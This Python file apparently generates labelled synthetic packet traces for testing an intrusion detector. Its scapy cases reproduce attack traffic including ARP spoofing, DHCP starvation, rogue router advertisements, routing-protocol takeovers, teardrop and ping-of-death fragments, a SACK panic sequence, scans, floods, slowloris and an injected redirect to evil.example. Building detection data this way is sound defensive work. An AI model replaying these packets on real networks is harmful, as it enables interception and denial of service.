"""Attacks on links, networks and transport as their tools and descriptions have them."""

import random
import zlib

from scapy.all import (
    ARP, BOOTP, DHCP, ICMP, IP, LLC, STP, TCP, UDP, Dot1Q, Dot3, Ether, ICMPv6DestUnreach,
    ICMPv6EchoRequest, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr, ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr, IPv6, IPOption_LSRR, Raw, fragment,
)
from scapy.contrib.ospf import OSPF_Hdr, OSPF_LSUpd, OSPF_Router_LSA, OSPF_Link
from scapy.layers.hsrp import HSRP
from scapy.layers.rip import RIP, RIPEntry
from scapy.layers.vrrp import VRRP

from wire import ALL, EVIL, FAR, GATEWAY, OTHER, VICTIM, Conn, case, everyday, eth, get, ip, mac, tcp, tls, udp

RNG = random.Random(11)


def rmac():
    return "%02x:%02x:%02x:%02x:%02x:%02x" % tuple([RNG.getrandbits(8) & 0xFE] + [RNG.getrandbits(8) for _ in range(5)])


def rip4():
    return "%d.%d.%d.%d" % (RNG.choice([5, 23, 45, 62, 77, 91, 104, 142, 185, 193]), RNG.randint(1, 254), RNG.randint(1, 254), RNG.randint(1, 254))


def arp(t, op, smac, psrc, pdst, dst, hwdst="00:00:00:00:00:00"):
    return t, Ether(src=smac, dst=dst) / ARP(op=op, hwsrc=smac, psrc=psrc, hwdst=hwdst, pdst=pdst)


# Link.

@case("ARP spoofing one way (ettercap)", ["arp-spoofing", "arp-poisoning"], attacker=EVIL, victim=VICTIM)
def arp_one_way():
    yield from everyday(60)
    yield arp(1, 1, mac(VICTIM), VICTIM, GATEWAY, ALL)
    yield arp(1.001, 2, mac(GATEWAY), GATEWAY, VICTIM, mac(VICTIM), mac(VICTIM))
    for n in range(10):
        yield arp(5 + n * (1 if n < 5 else 10), 2, mac(EVIL), GATEWAY, VICTIM, mac(VICTIM), mac(VICTIM))


@case("ARP spoofing both ways, nothing genuine asked (bettercap)", ["arp-spoofing", "arp-poisoning"], attacker=EVIL, victim=VICTIM)
def arp_two_way():
    yield from everyday(30)
    for n in range(25):
        yield arp(3 + n, 2, mac(EVIL), GATEWAY, VICTIM, mac(VICTIM), mac(VICTIM))
        yield arp(3.01 + n, 2, mac(EVIL), VICTIM, GATEWAY, mac(GATEWAY), mac(GATEWAY))


@case("gratuitous ARP for the gateway, broadcast again and again", ["arp-spoofing", "arp-poisoning", "arp-conflict"], attacker=EVIL, victim=GATEWAY)
def arp_gratuitous():
    yield from everyday(40)
    for n in range(60):
        yield arp(2 + n * 0.5, 2, mac(EVIL), GATEWAY, GATEWAY, ALL, ALL)


@case("MAC flood (macof)", ["mac-flood"], also=["spoofed-source", "syn-flood", "port-scan"])
def mac_flood():
    for n in range(3000):
        yield n * 0.0005, (Ether(src=rmac(), dst=rmac()) / IP(src=rip4(), dst=rip4(), ttl=64, id=RNG.getrandbits(16))
                           / TCP(sport=RNG.getrandbits(16), dport=RNG.getrandbits(16), flags="S", seq=RNG.getrandbits(32), window=512))


def bootp(t, client, kind, server=None, offered=None, src="0.0.0.0", smac=None, router=GATEWAY, dns=GATEWAY, xid=None):
    chaddr = bytes.fromhex(client.replace(":", ""))
    options = [("message-type", kind)]
    if server:
        options += [("server_id", server)]
        if src != "0.0.0.0":
            options += [("router", router), ("name_server", dns), ("subnet_mask", "255.255.255.0"), ("lease_time", 3600)]
    to_server = src == "0.0.0.0"
    ports = UDP(sport=68, dport=67) if to_server else UDP(sport=67, dport=68)
    return t, (Ether(src=smac or client, dst=ALL) / IP(src=src, dst="255.255.255.255") / ports
               / BOOTP(op=1 if to_server else 2, chaddr=chaddr, xid=xid or zlib.crc32(client.encode()), yiaddr=offered or "0.0.0.0")
               / DHCP(options=options + ["end"]))


@case("DHCP starvation by DISCOVERs (yersinia)", ["dhcp-starvation"])
def starve_discover():
    for n in range(400):
        client = rmac()
        yield bootp(n * 0.01, client, "discover")
        if n < 200:
            yield bootp(n * 0.01 + 0.002, client, "offer", GATEWAY, f"10.9.0.{20 + n}", GATEWAY, mac(GATEWAY))


@case("DHCP starvation by whole exchanges (DHCPig)", ["dhcp-starvation"])
def starve_whole():
    for n in range(220):
        client, t = rmac(), n * 0.1
        lease = f"10.9.0.{20 + n}"
        yield bootp(t, client, "discover")
        yield bootp(t + 0.01, client, "offer", GATEWAY, lease, GATEWAY, mac(GATEWAY))
        yield bootp(t + 0.02, client, "request", GATEWAY)
        yield bootp(t + 0.03, client, "ack", GATEWAY, lease, GATEWAY, mac(GATEWAY))


@case("rogue DHCP server that is faster", ["rogue-dhcp"], attacker=EVIL)
def rogue_dhcp():
    for n in range(3):
        client, t = f"02:00:5e:00:00:{n:02x}", n * 8
        yield bootp(t, client, "discover")
        yield bootp(t + 0.001, client, "offer", EVIL, f"10.9.0.{200 + n}", EVIL, mac(EVIL), router=EVIL, dns=EVIL)
        yield bootp(t + 0.02, client, "offer", GATEWAY, f"10.9.0.{100 + n}", GATEWAY, mac(GATEWAY))
        yield bootp(t + 0.03, client, "request", EVIL)
        yield bootp(t + 0.04, client, "ack", EVIL, f"10.9.0.{200 + n}", EVIL, mac(EVIL), router=EVIL, dns=EVIL)


def ra(t, src, smac, prefix, lifetime=1800):
    return t, (Ether(src=smac, dst="33:33:00:00:00:01") / IPv6(src=src, dst="ff02::1", hlim=255)
               / ICMPv6ND_RA(routerlifetime=lifetime) / ICMPv6NDOptSrcLLAddr(lladdr=smac) / ICMPv6NDOptPrefixInfo(prefix=prefix, prefixlen=64))


@case("router advertisement flood (flood_router6)", ["ra-flood", "rogue-ra"])
def ra_flood():
    for n in range(500):
        yield ra(n * 0.002, f"fe80::{RNG.getrandbits(16):x}:{RNG.getrandbits(16):x}", rmac(), f"2001:db8:{n + 1:x}::")


@case("router advertisement that kills the router (fake_router26)", ["rogue-ra"])
def ra_kill():
    for n in range(3):
        yield ra(n * 10, "fe80::1", "02:00:00:00:00:01", "2001:db8:1::")
    for n in range(5):
        yield ra(21 + n, "fe80::1", "02:00:00:00:00:66", "2001:db8:1::", 0)


@case("every new address refused (dos-new-ip6)", ["ndp-address-refusal", "ndp-spoofing"])
def dad_refused():
    for n in range(6):
        target = f"fe80::200:5eff:fe00:{n + 1:x}"
        t = n * 5
        yield t, Ether(src=f"02:00:5e:00:00:{n + 1:02x}", dst="33:33:ff:00:00:01") / IPv6(src="::", dst="ff02::1:ff00:1", hlim=255) / ICMPv6ND_NS(tgt=target)
        yield t + 0.01, (Ether(src="02:00:00:00:00:66", dst="33:33:00:00:00:01") / IPv6(src=target, dst="ff02::1", hlim=255)
                         / ICMPv6ND_NA(tgt=target, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr="02:00:00:00:00:66"))


@case("answers to every neighbour solicitation (parasite6)", ["ndp-spoofing"])
def parasite6():
    for n in range(8):
        target, t = f"fe80::{1 + n % 3}", n * 2
        owner = f"02:00:00:00:00:0{1 + n % 3}"
        yield t, (Ether(src="02:00:00:00:00:0a", dst="33:33:ff:00:00:01") / IPv6(src="fe80::a", dst="ff02::1:ff00:1", hlim=255)
                  / ICMPv6ND_NS(tgt=target) / ICMPv6NDOptSrcLLAddr(lladdr="02:00:00:00:00:0a"))
        for at, lladdr in ((0.001, owner), (0.003, "02:00:00:00:00:66"), (0.6, "02:00:00:00:00:66")):
            yield t + at, (Ether(src=lladdr, dst="02:00:00:00:00:0a") / IPv6(src=target, dst="fe80::a", hlim=255)
                           / ICMPv6ND_NA(tgt=target, R=0, S=1, O=1) / ICMPv6NDOptDstLLAddr(lladdr=lladdr))


@case("neighbour cache exhaustion by a scan of a /64", ["ping-sweep", "port-scan", "ndp-exhaustion"])
def neighbour_exhaustion():
    for n in range(1500):
        target = "2001:db8:5::%x:%x" % (RNG.getrandbits(16), RNG.getrandbits(16))
        yield n * 0.005, Ether(src=mac(GATEWAY), dst="33:33:ff:00:00:01") / IPv6(src="fe80::1", dst="ff02::1:ff00:1", hlim=255) / ICMPv6ND_NS(tgt=target)


@case("VLAN hopping by a double tag", ["vlan-hopping"], attacker=EVIL)
def double_tag():
    yield from everyday(10)
    for n in range(5):
        yield 2 + n, Ether(src=mac(EVIL), dst=ALL) / Dot1Q(vlan=1) / Dot1Q(vlan=20) / IP(src=EVIL, dst="10.20.0.5") / ICMP(id=5, seq=n) / Raw(b"x" * 32)


@case("a host that negotiates a trunk (DTP, yersinia)", ["vlan-hopping"])
def dtp():
    yield from everyday(30, hosts=(EVIL,))
    body = bytes([1]) + b"\x00\x01\x00\x05\x00" + b"\x00\x02\x00\x05\x03" + b"\x00\x03\x00\x05\xa5" + b"\x00\x04\x00\x0a" + bytes.fromhex("020000000066")
    for n in range(10):
        yield n * 3, Dot3(src=mac(EVIL), dst="01:00:0c:cc:cc:cc") / LLC(dsap=0xAA, ssap=0xAA, ctrl=3) / Raw(b"\x00\x00\x0c\x20\x04" + body)


def bpdu(t, src, root, root_mac, bridge, bridge_mac, cost=0, flags=0):
    return t, (Dot3(src=src, dst="01:80:c2:00:00:00") / LLC(dsap=0x42, ssap=0x42, ctrl=3)
               / STP(rootid=root, rootmac=root_mac, bridgeid=bridge, bridgemac=bridge_mac, pathcost=cost, bpduflags=flags, portid=0x8001))


@case("spanning tree root claimed by a host (yersinia)", ["stp-root-claim"])
def stp_root():
    switch = "00:1b:54:00:00:01"
    for n in range(15):
        yield bpdu(n * 2, switch, 32769, switch, 32769, switch)
        if n >= 5:
            yield bpdu(n * 2 + 1, mac(EVIL), 32769, "00:1b:53:00:00:01", 32769, "00:1b:53:00:00:01")


@case("BPDU flood with random bridges", ["stp-flood", "stp-root-claim"])
def stp_flood():
    for n in range(600):
        source = rmac()
        yield bpdu(n * 0.01, source, RNG.getrandbits(16), source, RNG.getrandbits(16), source)


@case("CDP flood (yersinia)", ["discovery-flood", "mac-flood"])
def cdp_flood():
    for n in range(1000):
        name = bytes(RNG.randint(65, 90) for _ in range(8))
        body = b"\x02\xff\x00\x00" + b"\x00\x01" + (12).to_bytes(2, "big") + name + b"\x00\x04\x00\x08\x00\x00\x00\x01"
        yield n * 0.005, Dot3(src=rmac(), dst="01:00:0c:cc:cc:cc") / LLC(dsap=0xAA, ssap=0xAA, ctrl=3) / Raw(b"\x00\x00\x0c\x20\x00" + body)


@case("LLDP flood", ["discovery-flood", "mac-flood"])
def lldp_flood():
    for n in range(800):
        source = rmac()
        body = b"\x02\x07\x04" + bytes.fromhex(source.replace(":", "")) + b"\x04\x03\x07p1" + b"\x06\x02\x00\x78\x00\x00"
        yield n * 0.005, Ether(src=source, dst="01:80:c2:00:00:0e", type=0x88CC) / Raw(body)


# Routing.

@case("HSRP coup by a host", ["fhrp-takeover"], attacker=EVIL)
def hsrp_coup():
    for n in range(20):
        yield n * 3, ip(GATEWAY, "224.0.0.2", 1) / UDP(sport=1985, dport=1985) / HSRP(state=16, priority=110, virtualIP="10.9.0.254", group=1)
        yield n * 3 + 0.5, ip("10.9.0.2", "224.0.0.2", 1) / UDP(sport=1985, dport=1985) / HSRP(state=8, priority=100, virtualIP="10.9.0.254", group=1)
        if n >= 10:
            yield n * 3 + 1, ip(EVIL, "224.0.0.2", 1) / UDP(sport=1985, dport=1985) / HSRP(opcode=1 if n == 10 else 0, state=16, priority=255, virtualIP="10.9.0.254", group=1)


@case("VRRP master claimed by a host", ["fhrp-takeover"], attacker=EVIL)
def vrrp_takeover():
    for n in range(40):
        yield n, ip(GATEWAY, "224.0.0.18", 255, proto=112) / VRRP(vrid=7, priority=150, addrlist=["10.9.0.254"])
        if n >= 20:
            yield n + 0.5, ip(EVIL, "224.0.0.18", 255, proto=112) / VRRP(vrid=7, priority=255, addrlist=["10.9.0.254"])


def lsu(t, src, router, seq, age=1, links=1, speaker=None):
    lsa = OSPF_Router_LSA(id=router, adrouter=router, seq=seq, age=age,
                          linklist=[OSPF_Link(type=3, id=f"10.{n}.0.0", data="255.255.0.0", metric=1) for n in range(links)])
    return t, ip(src, "224.0.0.5", 1, proto=89) / OSPF_Hdr(src=speaker or src) / OSPF_LSUpd(lsalist=[lsa])


@case("a router's LSA forged, and fought back", ["routing-spoofing"], attacker=EVIL)
def ospf_forged():
    for n in range(6):
        yield lsu(n * 10, GATEWAY, "192.0.2.1", 0x80000001 + n, speaker="192.0.2.1")
    for n in range(5):
        yield lsu(61 + n * 5, EVIL, "192.0.2.1", 0x80000010 + 2 * n, links=5)
        yield lsu(62 + n * 5, GATEWAY, "192.0.2.1", 0x80000011 + 2 * n, speaker="192.0.2.1")


@case("a default route announced by RIP from a host", ["routing-spoofing"], attacker=EVIL)
def rip_route():
    for n in range(6):
        yield n * 30, ip(GATEWAY, "224.0.0.9", 1) / UDP(sport=520, dport=520) / RIP(cmd=2, version=2) / RIPEntry(addr="0.0.0.0", mask="0.0.0.0", metric=3)
        if n >= 3:
            yield n * 30 + 5, ip(EVIL, "224.0.0.9", 1) / UDP(sport=520, dport=520) / RIP(cmd=2, version=2) / RIPEntry(addr="0.0.0.0", mask="0.0.0.0", metric=1)


# Network.

@case("redirect to the attacker in the gateway's name (ettercap)", ["forged-redirect"], victim=VICTIM)
def redirect():
    packets = everyday(20)
    yield from packets
    for n in range(5):
        quoted = IP(src=VICTIM, dst="203.0.113.9", ttl=64) / UDP(sport=4444, dport=53)
        yield 5 + n, Ether(src=mac(EVIL), dst=mac(VICTIM)) / IP(src=GATEWAY, dst=VICTIM) / ICMP(type=5, code=1, gw=EVIL) / quoted


@case("smurf at the victim", ["smurf", "icmp-flood"], victim=VICTIM)
def smurf_victim():
    for n in range(3000):
        yield n * 0.001, ip(f"203.0.113.{n % 200 + 1}", VICTIM) / ICMP(type=0, id=77, seq=n // 200) / Raw(b"s" * 500)


@case("smurf at the amplifier", ["smurf"], victim="192.0.2.80")
def smurf_amplifier():
    for n in range(100):
        yield n * 0.02, Ether(src=mac(GATEWAY), dst=ALL) / IP(src="192.0.2.80", dst="10.9.0.255", ttl=50) / ICMP(id=7, seq=n) / Raw(b"s" * 64)
        for host in range(10, 30):
            yield n * 0.02 + host * 0.0001, ip(f"10.9.0.{host}", "192.0.2.80") / ICMP(type=0, id=7, seq=n) / Raw(b"s" * 64)


@case("fraggle", ["smurf", "udp-flood"], victim="192.0.2.80")
def fraggle():
    for n in range(150):
        yield n * 0.02, Ether(src=mac(GATEWAY), dst=ALL) / IP(src="192.0.2.80", dst="10.9.0.255", ttl=50) / UDP(sport=7, dport=7) / Raw(b"f" * 64)


@case("ping of death", ["oversized-datagram", "fragment-overlap"], attacker=FAR, victim=VICTIM)
def ping_of_death():
    for round in range(3):
        for n in range(45):
            yield round + n * 0.001, ip(FAR, VICTIM, id=900 + round, flags="MF" if n < 44 else 0, frag=n * 185, proto=1) / Raw(bytes(1480))


@case("teardrop", ["fragment-overlap"], also=["tiny-fragments"], attacker=FAR, victim=VICTIM)
def teardrop():
    for n in range(5):
        yield n, ip(FAR, VICTIM, id=242, flags="MF", frag=0, proto=17) / UDP(sport=4321, dport=1234, len=48) / Raw(bytes(28))
        yield n + 0.001, ip(FAR, VICTIM, id=242, flags=0, frag=3, proto=17) / Raw(bytes(4))


@case("jolt2", ["oversized-datagram", "fragment-flood", "fragment-overlap"], victim=VICTIM)
def jolt2():
    for n in range(1000):
        yield n * 0.002, ip(FAR, VICTIM, id=1109, flags=0, frag=8190, proto=1) / Raw(bytes(29))


@case("rose: first and last fragments only", ["fragment-flood"], also=["tiny-fragments"], victim=VICTIM)
def rose():
    for n in range(800):
        yield n * 0.005, ip(FAR, VICTIM, id=n, flags="MF", frag=0, proto=17) / UDP(sport=1, dport=2, len=64800) / Raw(bytes(32))
        yield n * 0.005 + 0.001, ip(FAR, VICTIM, id=n, flags=0, frag=8100, proto=17) / Raw(bytes(32))


@case("IPv6 fragments that overlap", ["fragment-overlap"])
def overlap6():
    from scapy.all import IPv6ExtHdrFragment
    for n in range(3):
        head = ip("2001:db8::66", "2001:db8::10") / IPv6ExtHdrFragment(id=n + 1, nh=17, offset=0, m=1) / UDP(sport=9, dport=9, len=1032) / Raw(bytes(1016))
        tail = ip("2001:db8::66", "2001:db8::10") / IPv6ExtHdrFragment(id=n + 1, nh=17, offset=100, m=0) / Raw(b"y" * 400)
        yield n, head
        yield n + 0.001, tail


@case("LAND", ["land"], also=["spoofed-source"], victim=VICTIM)
def land():
    for n in range(10):
        yield n * 0.1, Ether(src=mac(GATEWAY), dst=mac(VICTIM)) / IP(src=VICTIM, dst=VICTIM) / TCP(sport=139, dport=139, flags="S", seq=n)


@case("WinNuke", ["winnuke"], attacker=FAR, victim=VICTIM)
def winnuke():
    conn = Conn(1, FAR, 2020, VICTIM, 139)
    conn.put(0, "PAU", b"Bye", urgptr=3)
    yield from conn.out


@case("source-routed packets", ["source-route"], attacker=FAR, victim=VICTIM)
def source_route():
    for n in range(4):
        yield n, ip(FAR, VICTIM, options=[IPOption_LSRR(routers=["192.0.2.1", GATEWAY], pointer=12)]) / TCP(sport=2000 + n, dport=23, flags="S")


@case("idle scan (nmap -sI)", ["ipid-probing"], also=["port-scan", "off-path-reset", "spoofed-source"])
def idle_scan():
    """Seen at the zombie: the attacker's probes, resets with counted identifications, SYN-ACKs of the target."""
    zombie, ident, t = OTHER, 1000, 0.0
    for n in range(40):
        yield tcp(t, EVIL, 50000 + n, zombie, 80, "SA", 1, 1)
        ident += 1
        yield t + 0.001, ip(zombie, EVIL, id=ident) / TCP(sport=80, dport=50000 + n, flags="R", seq=1)
        if n % 4 == 3:
            yield tcp(t + 0.1, VICTIM, 20 + n, zombie, 80, "SA", 7, 1)
            ident += 1
            yield t + 0.101, ip(zombie, VICTIM, id=ident) / TCP(sport=80, dport=20 + n, flags="R", seq=1)
        t += 0.5


# Scans.

def answered(t, src, sport, dst, dport, open_ports, flags="S"):
    yield tcp(t, src, sport, dst, dport, flags, 1000, 0, window=1024)
    if flags == "S" and dport in open_ports:
        yield tcp(t + 0.001, dst, dport, src, sport, "SA", 5, 1001)
        yield tcp(t + 0.002, src, sport, dst, dport, "R", 1001)
    elif dport not in open_ports:
        yield tcp(t + 0.001, dst, dport, src, sport, "RA", 0, 1001)


@case("Maimon scan", ["port-scan"], attacker=EVIL, victim=VICTIM)
def maimon():
    for n, port in enumerate(RNG.sample(range(1, 1000), 200)):
        yield from answered(n * 0.01, EVIL, 40000, VICTIM, port, {22, 80}, "FA")


@case("window scan", ["port-scan"], attacker=EVIL, victim=VICTIM)
def window_scan():
    for n, port in enumerate(RNG.sample(range(1, 1000), 100)):
        yield tcp(n * 0.01, EVIL, 40000, VICTIM, port, "A", 0, 77)
        yield tcp(n * 0.01 + 0.001, VICTIM, port, EVIL, 40000, "R", 77)


@case("FIN scan that nothing answers", ["port-scan"], attacker=FAR, victim=VICTIM)
def fin_silent():
    for n, port in enumerate(RNG.sample(range(1, 2000), 300)):
        yield tcp(n * 0.02, FAR, 40000, VICTIM, port, "F", 9, 0)


@case("IP protocol scan (nmap -sO)", ["protocol-scan", "port-scan"], attacker=EVIL, victim=VICTIM)
def protocol_scan():
    for n in range(256):
        probe = ip(EVIL, VICTIM, proto=n)
        yield n * 0.05, probe
        if n not in (1, 6, 17):
            yield n * 0.05 + 0.001, ip(VICTIM, EVIL) / ICMP(type=3, code=2) / probe[IP]


@case("SCTP INIT scan (nmap -sY)", ["port-scan"], attacker=EVIL, victim=VICTIM)
def sctp_scan():
    from scapy.all import SCTP, SCTPChunkInit, SCTPChunkAbort
    for n in range(60):
        yield n * 0.05, ip(EVIL, VICTIM, proto=132) / SCTP(sport=44000, dport=n + 1) / SCTPChunkInit(init_tag=n + 1)
        yield n * 0.05 + 0.001, ip(VICTIM, EVIL, proto=132) / SCTP(sport=n + 1, dport=44000, tag=n + 1) / SCTPChunkAbort()


@case("worm looking for telnet on the internet (Mirai)", ["port-scan"], attacker=VICTIM)
def mirai():
    yield from everyday(30)
    for n in range(400):
        yield tcp(n * 0.05, VICTIM, RNG.randint(1025, 65000), rip4(), 23 if n % 10 else 2323, "S", RNG.getrandbits(32), 0, window=RNG.randint(1000, 60000))


@case("445 of a whole /24 (a worm inside)", ["port-scan", "arp-scan"], attacker=EVIL)
def worm_445():
    for n in range(1, 255):
        yield arp(n * 0.1, 1, mac(EVIL), EVIL, f"10.9.0.{n}", ALL)
        if n in (10, 11, 40):
            host = f"10.9.0.{n}"
            yield arp(n * 0.1 + 0.001, 2, mac(host), host, EVIL, mac(EVIL), mac(EVIL))
            yield from answered(n * 0.1 + 0.01, EVIL, 3000 + n, host, 445, {445})


@case("one port a minute for 40 minutes", ["port-scan"], attacker=FAR, victim=VICTIM)
def slow_scan():
    for n in range(40):
        yield from answered(n * 60, FAR, 30000 + n, VICTIM, 20 + n, {22, 25})


@case("distributed scan: 60 sources, 3 ports each", ["port-scan"], victim=VICTIM)
def distributed():
    for n in range(180):
        yield from answered(n * 0.4, f"203.0.113.{n % 60 + 1}", 30000 + n, VICTIM, 1 + n * 5, {80})


@case("decoy scan (nmap -D)", ["port-scan"], victim=VICTIM)
def decoys():
    sources = [FAR] + [rip4() for _ in range(5)]
    for n in range(150):
        for m, source in enumerate(sources):
            yield from answered(n * 0.02 + m * 0.001, source, 45000, VICTIM, n + 1, {22, 80})


@case("SNMP asked on every address", ["port-scan"], attacker=FAR)
def snmp_sweep():
    for n in range(1, 200):
        yield udp(n * 0.02, FAR, 39000, f"10.9.0.{n}", 161, bytes.fromhex("302902010004067075626c6963a01c0204000000010201000201003"
                                                                       "00e300c06082b060102010101000500"))


@case("SIP asked on every address (sipvicious)", ["port-scan"], attacker=FAR)
def sip_sweep():
    for n in range(1, 200):
        yield udp(n * 0.02, FAR, 5060, f"10.9.0.{n}", 5060, b"OPTIONS sip:100@10.9.0.%d SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n" % n)


@case("connect scan of a host", ["port-scan"], attacker=EVIL, victim=VICTIM)
def connect_scan():
    for port in range(1, 200):
        if port in (22, 80, 111):
            yield from Conn(port * 0.01, EVIL, 40000 + port, VICTIM, port).reset(0)
        else:
            yield from answered(port * 0.01, EVIL, 40000 + port, VICTIM, port, set())


# Floods.

@case("SYN flood, only the way there", ["syn-flood"], also=["spoofed-source"], victim=VICTIM)
def syn_one_way():
    for n in range(4000):
        yield tcp(n * 0.001, rip4(), RNG.randint(1024, 65000), VICTIM, 80, "S", RNG.getrandbits(32))


@case("SYN flood, answered", ["syn-flood"], also=["spoofed-source"], victim=VICTIM)
def syn_answered():
    for n in range(2000):
        source, port = rip4(), RNG.randint(1024, 65000)
        yield tcp(n * 0.002, source, port, VICTIM, 443, "S", n)
        yield tcp(n * 0.002 + 0.0005, VICTIM, 443, source, port, "SA", 7, n + 1)


@case("SYN flood over all ports", ["syn-flood", "port-scan"], victim=VICTIM)
def syn_ports():
    for n in range(3000):
        yield tcp(n * 0.001, rip4(), RNG.randint(1024, 65000), VICTIM, n % 65536, "S", RNG.getrandbits(32))


@case("UDP flood of one source to one port", ["udp-flood"], attacker=FAR, victim=VICTIM)
def udp_flood():
    for n in range(8000):
        yield udp(n * 0.0005, FAR, 4000, VICTIM, 9999, bytes(1000))


@case("UDP flood to random ports", ["udp-flood"], attacker=FAR, victim=VICTIM)
def udp_random():
    for n in range(5000):
        yield udp(n * 0.001, FAR, 4000, VICTIM, RNG.randint(1, 65000), bytes(500))


@case("ICMP flood of large pings", ["icmp-flood"], attacker=FAR, victim=VICTIM)
def icmp_flood():
    for n in range(2500):
        yield n * 0.002, ip(FAR, VICTIM) / ICMP(id=1, seq=n) / Raw(bytes(1400))


@case("backscatter of a flood elsewhere", ["backscatter", "syn-ack-reflection"])
def backscatter():
    for n in range(1500):
        yield tcp(n * 0.005, "203.0.113.80", 80, f"10.9.{n % 250}.{RNG.randint(1, 254)}", RNG.randint(1024, 65000), "SA", RNG.getrandbits(32), RNG.getrandbits(32))


@case("HTTP flood of one host (Hulk)", ["http-flood"], attacker=FAR, victim=VICTIM)
def hulk():
    for n in range(1200):
        yield from get(n * 0.01, FAR, 10000 + n, VICTIM, f"/?{RNG.getrandbits(32):x}={RNG.getrandbits(32):x}", 300)


@case("slow headers (slowloris)", ["connection-exhaustion"], attacker=FAR, victim=VICTIM)
def slowloris():
    for n in range(150):
        conn = Conn(n * 0.02, FAR, 20000 + n, VICTIM, 80)
        conn.ask(b"GET /?%d HTTP/1.1\r\nHost: a\r\n" % n)
        for _ in range(3):
            conn.ask(b"X-a: %d\r\n" % RNG.randint(1, 5000), 15)
        yield from conn.out


@case("slow body (R-U-Dead-Yet)", ["connection-exhaustion"], attacker=FAR, victim=VICTIM)
def rudy():
    for n in range(120):
        conn = Conn(n * 0.05, FAR, 20000 + n, VICTIM, 80)
        conn.ask(b"POST /form HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n")
        for _ in range(6):
            conn.ask(b"A", 10)
        yield from conn.out


@case("slow read", ["connection-exhaustion"], attacker=FAR, victim=VICTIM)
def slow_read():
    for n in range(120):
        conn = Conn(n * 0.05, FAR, 20000 + n, VICTIM, 80)
        conn.put(0, "PA", b"GET /big HTTP/1.1\r\nHost: a\r\n\r\n", window=0)
        for _ in range(10):
            conn.t += 4
            conn.put(1, "A").put(0, "A", window=0)
        yield from conn.out


@case("zero windows after the handshake (sockstress)", ["connection-exhaustion", "tcp-resource-abuse"], attacker=FAR, victim=VICTIM)
def sockstress():
    for n in range(300):
        conn = Conn(n * 0.02, FAR, 20000 + n, VICTIM, 80)
        conn.put(0, "PA", b"GET / HTTP/1.0\r\n\r\n", window=0)
        conn.t += 0.3
        conn.put(1, "A")
        conn.t += 15
        conn.put(1, "A").put(0, "A", window=0)
        yield from conn.out


@case("SACK and an MSS of 48 (CVE-2019-11477)", ["tcp-resource-abuse"], attacker=FAR, victim=VICTIM)
def sack_panic():
    for n in range(3):
        a, b, t = 5000 + n, 9000, n * 5.0
        yield tcp(t, FAR, 30000 + n, VICTIM, 80, "S", a, 0, options=[("MSS", 48), ("SAckOK", b""), ("WScale", 7)])
        yield tcp(t + 0.01, VICTIM, 80, FAR, 30000 + n, "SA", b, a + 1, options=[("MSS", 1460), ("SAckOK", b"")])
        yield tcp(t + 0.02, FAR, 30000 + n, VICTIM, 80, "A", a + 1, b + 1)
        yield tcp(t + 0.03, FAR, 30000 + n, VICTIM, 80, "PA", a + 1, b + 1, b"GET /big HTTP/1.0\r\n\r\n")
        for m in range(200):
            yield tcp(t + 0.04 + m * 0.002, VICTIM, 80, FAR, 30000 + n, "A", b + 1 + m * 36, a + 20, bytes(36))
            if m > 2:
                left = b + 1 + m * 36
                yield tcp(t + 0.041 + m * 0.002, FAR, 30000 + n, VICTIM, 80, "A", a + 20, b + 1, options=[("SAck", (left, left + 36)), ("NOP", None), ("NOP", None)])


# Connections.

@case("reset by somebody on the way, client's and server's (three each)", ["in-path-reset", "off-path-reset"], victim=VICTIM)
def reset_in_path():
    for m in range(3):
        conn = Conn(m * 5, VICTIM, 30000 + m, "203.0.113.5", 443, rtt=0.05)
        for _ in range(4):
            conn.ask(bytes(300)).tell(bytes(3000))
        a, b = conn.seq
        for n, jump in enumerate((0, 1460, 4380)):
            conn.out.append(tcp(conn.t + n * 0.0005, "203.0.113.5", 443, VICTIM, 30000 + m, "R", b + jump, a, ttl=109))
        conn.t += 0.004
        conn.tell(bytes(2000)).tell(bytes(2000))
        yield from conn.out


@case("blind reset by sweeping windows", ["off-path-reset"], victim=VICTIM)
def blind_reset():
    conn = Conn(0, VICTIM, 30000, "203.0.113.179", 179, rtt=0.02)
    for _ in range(30):
        conn.ask(bytes(19), 0.5).tell(bytes(19))
    for n in range(400):
        conn.out.append(tcp(3 + n * 0.01, "203.0.113.179", 179, VICTIM, 30000, "R", n * 65535 * 16 % 2**32, ttl=60))
    yield from conn.out


@case("an answer ahead of the server's (man on the side)", ["tcp-data-injection", "off-path-injection"], victim=VICTIM)
def on_the_side():
    conn = Conn(1, VICTIM, 30000, "203.0.113.5", 80, rtt=0.08)
    conn.ask(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
    a, b = conn.seq
    conn.out.append(tcp(conn.t - 0.03, "203.0.113.5", 80, VICTIM, 30000, "PA", b, a, b"HTTP/1.1 302 Found\r\nLocation: http://evil.example/\r\n\r\n", ttl=120))
    conn.tell(b"HTTP/1.1 200 OK\r\nContent-Length: 4000\r\n\r\n" + b"z" * 4000)
    yield from conn.close()
